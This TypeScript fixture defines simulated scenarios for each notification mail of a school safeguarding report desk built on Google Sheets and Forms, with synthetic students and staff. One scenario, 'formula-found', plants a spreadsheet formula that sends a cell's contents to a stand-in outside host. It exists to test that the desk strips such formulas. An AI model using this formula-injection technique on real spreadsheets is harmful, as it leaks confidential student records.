/** Each kind of mail that the desk sends: who gets it, when, and a day on which it is sent. Synthetic people only. */
import type { MessageKind } from "../../src/letters/kinds/all-kinds";
import { demoDirectory } from "../play/directory";

export interface MailScene {
  readonly kind: MessageKind;
  /** The file of its picture. */
  readonly picture: string;
  /** In docs/mails.md. */
  readonly title: string;
  readonly who: string;
  readonly when: string;
  /** Whose mail is shown: the last one of the kind that this address got. */
  readonly to: string;
  /** The kind as a played day prints it, where that is told by a subject that two kinds have. */
  readonly printedAs?: MessageKind;
  readonly events: readonly unknown[];
  /** Where it is not the morning on which the others begin. */
  readonly start?: string;
  readonly directory?: object;
  /** Before going live. */
  readonly live?: false;
  /** A desk that went live before there were proof reports. */
  readonly isOlder?: true;
}

const contact = "contact@district.example";
const backup = "backup@district.example";
const lead = "lead@district.example";
const admin = "admin@district.example";
const teacher = "teacher@district.example";
const middle = "middle@district.example";

const student = {
  school: "North High",
  studentName: "Robin Vale",
  studentId: "N-1001",
  grade: "10",
  immediateDanger: "no",
  learnedAt: "2026-09-01T14:30:00-07:00",
};
const atRisk = { ...student, factors: ["controlled-or-groomed", "frequently-absent"] };
const victim = { ...student, concerns: ["suspected-victim"] };
const another = { ...atRisk, studentName: "Robyn Vale", studentId: "N-1010" };

const set = (values: object, as = "contact", reference = "26-0001") => ({
  edit: { case: reference, set: values },
  as,
});
const acknowledged = set({ acknowledged: true });

const ofMiddle = {
  role: "designated contact",
  school: "South Middle",
  name: "Mica Middle",
  phone: "(415) 555-0106",
  email: middle,
  mayOpen: true,
};
const twoSchools = {
  ...demoDirectory,
  contacts: [...demoDirectory.contacts, ofMiddle],
};
const alternate = "alternate@district.example";
const withAlternate = {
  ...demoDirectory,
  contacts: [
    ...demoDirectory.contacts,
    {
      role: "alternate lead",
      name: "Alex Alternate",
      phone: "(415) 555-0107",
      email: alternate,
      mayOpen: true,
    },
  ],
};
const withoutReaders = {
  ...demoDirectory,
  contacts: demoDirectory.contacts.filter(({ role }) => role !== "district lead"),
};

/** In the order in which somebody new to the desk would meet them. */
export const mailScenes: readonly MailScene[] = [
  {
    kind: "case-opened",
    picture: "mail-case-opened.png",
    title: "A new case",
    who: "The school's designated contact; whoever stands in where that person is away; the reader alone of a sealed report.",
    when: "Within a minute of the report.",
    to: contact,
    events: [{ submit: atRisk }],
  },
  {
    kind: "case-opened",
    picture: "mail-case-opened-danger.png",
    title: "A new case in immediate danger",
    who: "The designated contact, the backup contact and the district lead, at once.",
    when: "Within a minute of the report.",
    to: backup,
    events: [
      {
        submit: {
          ...student,
          factors: ["controlled-or-groomed"],
          concerns: ["recruiting-or-exploiting", "suspected-victim", "confirmed-victim"],
          immediateDanger: "yes",
        },
      },
    ],
  },
  {
    kind: "report-added",
    picture: "mail-report-added.png",
    title: "Another report about the same student",
    who: "Whoever acts on the case.",
    when: "Within a minute of the report, where it raises nothing.",
    to: contact,
    events: [{ submit: atRisk }, acknowledged, { submit: atRisk }],
  },
  {
    kind: "case-raised",
    picture: "mail-case-raised.png",
    title: "A case that is more serious than it was",
    who: "Whoever acts on the case; in immediate danger everybody who may know of it.",
    when: "When a report, a merge or a person raises it.",
    to: contact,
    events: [{ submit: atRisk }, acknowledged, { submit: victim }],
  },
  {
    kind: "review-needed",
    picture: "mail-review-needed.png",
    title: "A report that needs a second look",
    who: "The district lead, or who stands in. Nobody where the report is sealed.",
    when: "With the report, where something in it could not be read, or Contacts could not say whom to tell.",
    to: lead,
    events: [{ submit: { ...atRisk, school: "Elsewhere High" } }],
  },
  {
    kind: "case-escalated",
    picture: "mail-case-escalated.png",
    title: "A case that nobody has taken on",
    who: "The next in line: contacts, backup contact, district lead, alternate lead or admin.",
    when: "When the time to acknowledge has passed. In immediate danger at its pace: everybody who may know after 15, 30 and 60 minutes and each fourth hour, and one after the other between those.",
    to: backup,
    events: [{ submit: victim }, { advance: "PT1H30M" }],
  },
  {
    kind: "call-overdue",
    picture: "mail-call-overdue.png",
    title: "A call that is not on record",
    who: "Whoever acts on the case, then the next in line up to the lead.",
    when: "An hour after the call fell due, where the case was acknowledged and the call is not ticked.",
    to: contact,
    events: [
      { submit: victim },
      acknowledged,
      {
        edit: {
          case: "26-0001",
          act: "call-child-and-family-services",
          set: { noAnswer: true },
        },
      },
      { advance: "PT1H30M" },
    ],
  },
  {
    kind: "case-given",
    picture: "mail-case-given.png",
    title: "A case that was given to you",
    who: "Whoever has the case from then on.",
    when: "When it is assigned, when somebody steps aside, when a school receives it or is corrected, when sealed reports get another reader.",
    to: backup,
    events: [{ submit: atRisk }, set({ assignedTo: backup })],
  },
  {
    kind: "case-stepped-aside",
    picture: "mail-case-stepped-aside.png",
    title: "Somebody has stepped aside",
    who: "The district lead.",
    when: "When a name is written in Stepped aside.",
    to: lead,
    events: [{ submit: atRisk }, set({ steppedAside: "x" })],
  },
  {
    kind: "dangers-unanswered",
    picture: "mail-dangers-unanswered.png",
    title: "Dangers that nobody has answered",
    who: "Whoever is asked about more than one danger.",
    when: "Instead of a mail for each, at the pace of danger, until each is acknowledged or a call is on record.",
    to: contact,
    events: [
      { submit: { ...victim, immediateDanger: "yes" } },
      {
        submit: {
          ...victim,
          immediateDanger: "yes",
          studentName: "Ash Grove",
          studentId: "N-2002",
        },
      },
      { advance: "PT40M" },
    ],
  },
  {
    kind: "dangers-without-call",
    picture: "mail-dangers-without-call.png",
    title: "Dangers without a call on record",
    who: "Whoever acknowledged more than one danger; once, after half an hour, everybody who may know of them.",
    when: "Instead of a mail for each that is due at one time, until a call is on record.",
    to: contact,
    events: [
      { submit: { ...victim, immediateDanger: "yes" } },
      {
        submit: {
          ...victim,
          immediateDanger: "yes",
          studentName: "Ash Grove",
          studentId: "N-2002",
        },
      },
      set({ acknowledged: true }),
      { edit: { case: "26-0002", set: { acknowledged: true } }, as: "contact" },
      { advance: "PT40M" },
    ],
  },
  {
    kind: "dangers-gathered",
    picture: "mail-dangers-gathered.png",
    title: "Dangers that came too fast for a mail each",
    who: "Whoever has had ten first mails about danger within an hour.",
    when: "Each five minutes while there are more.",
    to: contact,
    events: [...manyReports({ immediateDanger: "yes" }), { advance: "PT10M" }],
  },
  {
    kind: "cases-gathered",
    picture: "mail-cases-gathered.png",
    title: "New cases that came too fast for a mail each",
    who: "Whoever has had ten first mails within an hour.",
    when: "Each quarter of an hour while there are more.",
    to: contact,
    events: [...manyReports({}), { advance: "PT20M" }],
  },
  {
    kind: "reminders-gathered",
    picture: "mail-reminders-gathered.png",
    title: "Reminders that are due too close together for a mail each",
    who: "Whoever has had ten reminders within an hour.",
    when: "Each quarter of an hour while there are more.",
    to: backup,
    events: [...manyReports({}), { advance: "PT3H" }],
  },
  {
    kind: "mail-waits",
    picture: "mail-mail-waits.png",
    title: "Mail that has to wait",
    who: "The district lead.",
    when: "Once, when so little of the day's mail is left that it is kept for danger.",
    to: lead,
    events: [{ account: { mailQuota: 12 } }, ...manyReports({}), { advance: "PT20M" }],
  },
  {
    kind: "typed-by-another",
    picture: "mail-typed-by-another.png",
    title: "Somebody who is not in line ticked a case",
    who: "Whoever has the case; whoever ticked it; of a sealed case only its reader.",
    when: "When Acknowledged is ticked by somebody who is not in line for the case, such as another school's contact, or whom Google does not name; in a reader's file whatever is typed by somebody who must not read it.",
    to: contact,
    events: [
      { submit: atRisk },
      { edit: { case: "26-0001", set: { acknowledged: true } }, as: middle },
    ],
    directory: twoSchools,
  },
  {
    kind: "case-handed-over",
    picture: "mail-case-handed-over.png",
    title: "A case that is being handed over to your school",
    who: "The designated contact of the school named in Handed over to.",
    when: "When the school is written there; the morning's mail asks again until the day of receipt stands beside it.",
    to: middle,
    events: [{ submit: atRisk }, set({ handedTo: "South Middle" })],
    directory: twoSchools,
  },
  {
    kind: "case-merged",
    picture: "mail-case-merged.png",
    title: "Two cases that are one",
    who: "Whoever acts on either.",
    when: "When one is named in Same student as of the other.",
    to: contact,
    events: [
      { submit: atRisk },
      { submit: another },
      set({ sameStudentAs: "26-0001" }, "lead", "26-0002"),
    ],
  },
  {
    kind: "case-parted",
    picture: "mail-case-parted.png",
    title: "A merge that was undone",
    who: "Whoever acts on either.",
    when: "When Same student as is emptied again.",
    to: contact,
    events: [
      { submit: atRisk },
      { submit: another },
      set({ sameStudentAs: "26-0001" }, "lead", "26-0002"),
      set({ sameStudentAs: null }, "lead", "26-0002"),
    ],
  },
  {
    kind: "print-asked",
    picture: "mail-print-asked.png",
    title: "A record that is to be printed",
    who: "The district lead, or who stands in.",
    when: "When Print is ticked on a case.",
    to: lead,
    events: [{ submit: atRisk }, set({ print: true })],
  },
  {
    kind: "contact-left",
    picture: "mail-contact-left.png",
    title: "Open cases of a contact who left",
    who: "Whoever has the cases from then on, and the district lead.",
    when: "When a contact is taken out of Contacts, or may not open the register any more; before the access ends.",
    to: backup,
    events: [
      { submit: atRisk },
      acknowledged,
      { submit: { ...victim, studentName: "Ash Grove", studentId: "N-2002" } },
      { edit: { tab: "contacts", key: contact, set: { mayOpen: false } }, as: "lead" },
      { advance: "PT30M" },
    ],
  },
  {
    kind: "digest",
    picture: "mail-digest.png",
    title: "The morning's mail",
    who: "Everybody who has something due; the district lead also for cases of others that are more than a day late.",
    when: "Once each morning, at the time in Settings.",
    to: contact,
    events: [
      { submit: { ...atRisk, reporterEmail: teacher } },
      acknowledged,
      { submit: { ...victim, studentName: "Ash Grove", studentId: "N-2002" } },
      set({ holdUntil: "2026-09-04T15:00:00-07:00", heldFor: "the sheriff" }),
      { advance: "PT16H" },
    ],
  },
  {
    kind: "reporter-duty",
    picture: "mail-reporter-duty.png",
    title: "A reporter's own duty",
    who: "A reporter who left an address inside the district.",
    when: "With the report.",
    to: teacher,
    events: [{ submit: { ...atRisk, reporterEmail: teacher } }],
  },
  {
    kind: "report-taken-on",
    picture: "mail-report-taken-on.png",
    title: "Somebody has it",
    who: "A reporter who left an address inside the district; nobody of a sealed report.",
    when: "Once, when the case is acknowledged.",
    to: teacher,
    events: [{ submit: { ...atRisk, reporterEmail: teacher } }, acknowledged],
  },
  {
    kind: "sealed-waits",
    picture: "mail-sealed-waits.png",
    title: "A report that nobody may read",
    who: "People of the district whom no such report excludes.",
    when: "At once, and once a day while a sealed report has no reader; where it says danger again and again, until it has one or a call is recorded in the check.",
    to: admin,
    printedAs: "report-waiting",
    events: [{ submit: { ...victim, recipientMayBeInvolved: "contact" } }, { advance: "PT1H" }],
    directory: withoutReaders,
  },
  {
    kind: "report-waiting",
    picture: "mail-report-waiting.png",
    title: "A report that could not be written",
    who: "District lead and admin; of a report that is not sealed its school's contact and backup too.",
    when: "Within the run that failed, where the register cannot be reached; again for later reports, after an hour, and each day. Where it says danger again and again, until it is taken in.",
    to: lead,
    events: [outage(), { submit: atRisk }],
  },
  {
    kind: "register-unreachable",
    picture: "mail-register-unreachable.png",
    title: "A register out of reach",
    who: "District lead and admin.",
    when: "Once, when the register could not be read three times in a row.",
    to: lead,
    events: [outage(), { advance: "PT30M" }],
  },
  {
    kind: "danger-out-of-reach",
    picture: "mail-danger-out-of-reach.png",
    title: "A danger in a register out of reach",
    who: "Whoever has the case, the school's contact and backup, district lead and admin; alone who acknowledged it. Of a sealed case its reader alone; where it has none, people of the district whom it does not exclude, without its reference.",
    when: "Again and again while a danger has no call on record, and the register with its case cannot be read or written; until it can, or a call is recorded in the check.",
    to: lead,
    events: [
      { submit: { ...atRisk, immediateDanger: "yes" } },
      { advance: "PT10M" },
      { sheet: { deleteTab: { tab: "Cases" } } },
      { advance: "PT1H" },
    ],
  },
  {
    kind: "rows-moved",
    picture: "mail-rows-moved.png",
    title: "Rows at the top that were put back",
    who: "District lead and admin.",
    when: "When a row was inserted above the titles of a tab, and the desk has put them back.",
    to: lead,
    events: [
      { submit: atRisk },
      { sheet: { insertRows: { tab: "Cases", before: 1 } } },
      { submit: another },
      { advance: "PT15M" },
    ],
  },
  {
    kind: "formula-found",
    picture: "mail-formula-found.png",
    title: "A formula that was taken out",
    who: "District lead and admin; of a sealed register its reader.",
    when: "Within the hour, where a cell that people may edit holds a formula. It is text from then on.",
    to: lead,
    events: [
      { submit: atRisk },
      {
        edit: {
          tab: "Cases",
          case: "26-0001",
          set: { notes: '=IMPORTDATA("https://a.example/?q="&H3)' },
        },
        as: "contact",
      },
      { advance: "PT30M" },
    ],
  },
  {
    kind: "tabs-made-again",
    picture: "mail-tabs-made-again.png",
    title: "A tab that was deleted and made again",
    who: "District lead and admin.",
    when: "Once, when Set up has made it again, and what the Form still holds is back.",
    to: lead,
    events: [
      { submit: atRisk },
      acknowledged,
      { submit: { ...victim, studentName: "Ash Grove", studentId: "N-2002" } },
      { advance: "PT20M" },
      { sheet: { deleteTab: { tab: "Cases" } } },
      { menu: { name: "set-up" } },
      { advance: "PT15M" },
    ],
  },
  {
    kind: "form-changed",
    picture: "mail-form-changed.png",
    title: "A Form that does not work",
    who: "District lead and admin.",
    when: "Where the Form is closed, or a question of it is gone; once a week until it is put right.",
    to: admin,
    events: [{ form: { unpublish: true } }, { advance: "PT30M" }],
  },
  {
    kind: "form-gap",
    picture: "mail-form-gap.png",
    title: "A question that the Form asks no more",
    who: "District lead, alternate lead and admin.",
    when: "At once, by the run of the next report, where a question was deleted or its choices were changed.",
    to: lead,
    events: [
      { advance: "PT10M" },
      { form: { deleteQuestion: { key: "recipientMayBeInvolved" } } },
      { submit: atRisk },
    ],
  },
  {
    kind: "proof-report",
    picture: "mail-proof-report.png",
    title: "The proof report",
    who: "Whoever asked for its code, and the district lead.",
    when: "Before going live, when the code of Check came through the Form.",
    to: lead,
    events: [
      { menu: { name: "check" } },
      { submit: { school: "North High", studentName: "{proof}" } },
    ],
    live: false,
  },
  {
    kind: "form-audience",
    picture: "mail-form-audience.png",
    title: "Who can answer the Form",
    who: "District lead and admin.",
    when: "Once, at a desk that went live before a proof report was asked for.",
    to: admin,
    events: [{ advance: "P1DT1H" }],
    isOlder: true,
  },
  {
    kind: "education-missing",
    picture: "mail-education-missing.png",
    title: "What is missing in Education",
    who: "District lead and admin.",
    when: "Once in August, of the school year that has ended, and once in January, of the one that is on; not where nothing is missing.",
    to: lead,
    start: "2026-12-31T09:00:00-08:00",
    events: [{ advance: "P1DT1H" }],
  },
  {
    kind: "clock-fails",
    picture: "mail-clock-fails.png",
    title: "A clock that fails",
    who: "The account that runs the desk, and the district lead.",
    when: "At the third clock run in a row that failed; then once a day.",
    to: lead,
    events: [
      { advance: "PT10M" },
      { fault: { call: "Form.getResponses", when: "before", times: 9 } },
      { advance: "PT30M" },
    ],
  },
  {
    kind: "reader-missing",
    picture: "mail-reader-missing.png",
    title: "A report could have no reader",
    who: "District lead and admin.",
    when: "Once, within the hour in which Contacts of a live desk come to it.",
    to: lead,
    events: [
      { advance: "PT2H" },
      { edit: { tab: "contacts", key: alternate, set: { role: "" } }, as: "admin" },
      { advance: "PT2H" },
    ],
    directory: withAlternate,
  },
  {
    kind: "upgrade-waits",
    picture: "mail-upgrade-waits.png",
    title: "A register of an earlier version",
    who: "District lead and admin.",
    when: "Within an hour, where the script is newer than a register, or a register was restored to a version of before; once a week until Upgrade is chosen. In other words within a day, where a roll-over is due; once a week until it is done.",
    to: admin,
    // A register without the marks beside its keys is taken for one of the oldest schema.
    events: [
      { sheet: { deleteRows: { tab: "Outbox", rows: [1] } }, as: "admin" },
      { sheet: { deleteRows: { tab: "Activity", rows: [1] } }, as: "admin" },
      { advance: "PT30M" },
    ],
  },
  {
    kind: "access-changed",
    picture: "mail-access-changed.png",
    title: "Who can open the register",
    who: "District lead and admin.",
    when: "When somebody was let in or shut out.",
    to: lead,
    events: [
      { share: { add: { who: "stranger", role: "viewer" } } },
      { edit: { tab: "contacts", key: backup, set: { mayOpen: false } }, as: "lead" },
      { advance: "PT30M" },
    ],
  },
  {
    kind: "access-open",
    picture: "mail-access-open.png",
    title: "A register that is open to too many",
    who: "District lead and admin.",
    when: "Where a link or a whole domain opens it, where Google does not say, or where it lies in the bin.",
    to: lead,
    events: [{ share: { link: "anyone" } }, { advance: "PT30M" }],
  },
  {
    kind: "reporter-not-reminded",
    picture: "mail-reporter-not-reminded.png",
    title: "A reporter whom the desk does not mail",
    who: "Whoever may read who sent the report: the contact, or the lead alone.",
    when: "At once, where a reporter left a private address, a student's, or one that Google takes no mail for.",
    to: lead,
    events: [{ submit: { ...atRisk, reporterEmail: "kim@private.example" } }],
  },
  {
    kind: "register-moved",
    picture: "mail-register-moved.png",
    title: "A register that is a new file",
    who: "Everybody who may open it; of a sealed register its reader.",
    when: "Once, when a roll-over has put a new file in its place.",
    to: lead,
    events: [
      { submit: atRisk },
      set({ closeReason: "entered-by-mistake", notes: "A namesake." }),
      set({ leadAgreed: true }, "lead"),
      set({ status: "closed" }),
      // Years have gone by since.
      set({ closedAt: "2020-09-01T09:00:00-07:00" }, "admin"),
      { menu: { name: "roll-over", answers: ["begin"] } },
      { advance: "PT40M" },
    ],
    directory: { ...demoDirectory, settings: { retentionYears: "1" } },
  },
  {
    kind: "installer-silent",
    picture: "mail-installer-silent.png",
    title: "An account that has fallen silent",
    who: "District lead and admin.",
    when: "Once, where one of several accounts that run the desk has not run for an hour.",
    to: lead,
    events: [
      { share: { add: { who: "spare@district.example", file: "form" } } },
      { menu: { name: "set-up" }, as: "spare@district.example" },
      { advance: "PT25M" },
      { account: { suspend: "admin" } },
      { advance: "PT2H" },
    ],
  },
  {
    kind: "case-opened",
    picture: "mail-drill.png",
    title: "A mail of a drill",
    who: "Whoever would get the real one, of the staff of the school that rehearses; never an agency. Every kind of mail about a case can come so.",
    when: "While a drill is on. It begins with DRILL in its subject and in its first line, says what to do and when the drill ends, and has no number that can be called.",
    to: contact,
    events: [{ menu: { name: "drill", answers: { school: "North High" } } }],
  },
];

/** More than ten within an hour. */
function manyReports(more: object): readonly unknown[] {
  return Array.from({ length: 13 }, (_, at) => ({
    submit: { ...victim, studentName: `Student ${at + 1}`, studentId: `N-30${10 + at}`, ...more },
  }));
}

/** No read of a register is answered any more. */
function outage() {
  return {
    fault: {
      call: "Sheets.Spreadsheets.Values.batchGetByDataFilter",
      when: "before",
      error: "Service unavailable",
      times: 100_000,
    },
  };
}
